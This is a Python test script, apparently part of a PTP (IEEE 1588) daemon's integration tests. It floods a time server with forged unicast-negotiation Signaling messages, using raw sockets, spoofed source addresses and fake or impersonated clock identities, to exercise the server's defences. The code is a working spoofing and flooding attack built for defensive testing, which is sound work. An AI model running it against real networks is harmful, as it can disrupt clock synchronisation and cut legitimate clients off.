#!/usr/bin/env python3
"""uneg_flood.py - a hostile host abusing unicast negotiation (IEEE 1588-2019
16.1); tests/integration/uneg_abuse.sh runs it in a namespace it made.

  uneg_flood.py MODE DST FIRST NADDR NIDS [CLOCKID]
      Sends Signaling messages over UDPv4 to DST port 320 from NADDR
      spoofed source addresses (10.201.0.FIRST ..), NIDS clock identities
      each (a raw socket with our own IP header: the sources need not
      exist), and prints "SENT N".  MODE:
        request  REQUEST Announce (2^1 s) and Sync (2^0 s) for 300 s
        fast     REQUEST Sync at 2^-8 s, faster than the server allows
        cancel   CANCEL Sync and Announce grants nobody holds
        spoof    CANCEL Sync and Announce as CLOCKID port 1 (a real
                 client's identity) from addresses that are not its own
"""
import socket
import struct
import sys
import time

RAW_ID = bytes.fromhex("02aa00fffe")


def header(length, seq, src, port=1):
    # messageType 0xC, versionPTP 2 / minor 1, unicastFlag, controlField 5,
    # logMessageInterval 0x7F (13.3, 13.12)
    return struct.pack(">BBHBBHq4s8sHHBB", 0x0C, 0x12, length, 0, 0, 0x0400,
                       0, b"\0" * 4, src, port, seq & 0xFFFF, 5, 0x7F)


def tlv_request(mtype, period, duration):
    return struct.pack(">HHBbI", 4, 6, mtype << 4, period, duration)


def tlv_cancel(mtype):
    return struct.pack(">HHBB", 6, 2, mtype << 4, 0)


def signaling(seq, src, tlvs):
    body = b"\xff" * 10 + b"".join(tlvs)
    return header(34 + len(body), seq, src) + body


def ip_udp(src, dst, payload):
    ulen = 8 + len(payload)
    udp = struct.pack(">HHHH", 320, 320, ulen, 0)  # no UDP checksum (IPv4)
    iph = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0x4000, 64,
                      socket.IPPROTO_UDP, 0, socket.inet_aton(src),
                      socket.inet_aton(dst))
    return iph + udp + payload


def main():
    mode, dst = sys.argv[1], sys.argv[2]
    first, naddr, nids = (int(a) for a in sys.argv[3:6])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    for a in range(naddr):
        src_ip = "10.201.0.%d" % (first + a)
        for i in range(nids):
            if mode == "spoof":
                cid = bytes.fromhex(sys.argv[6].replace(".", ""))
                tlvs = [tlv_cancel(0x0), tlv_cancel(0xB)]
            else:
                cid = RAW_ID + struct.pack(">BH", a, i)
                if mode == "request":
                    tlvs = [tlv_request(0xB, 1, 300), tlv_request(0x0, 0, 300)]
                elif mode == "fast":
                    tlvs = [tlv_request(0x0, -8, 300)]
                else:
                    tlvs = [tlv_cancel(0x0), tlv_cancel(0xB)]
            s.sendto(ip_udp(src_ip, dst, signaling(sent, cid, tlvs)),
                     (dst, 0))
            sent += 1
            if sent % 50 == 0:
                time.sleep(0.01)  # a flood, not a kernel buffer overrun
    print("SENT %d" % sent)


main()
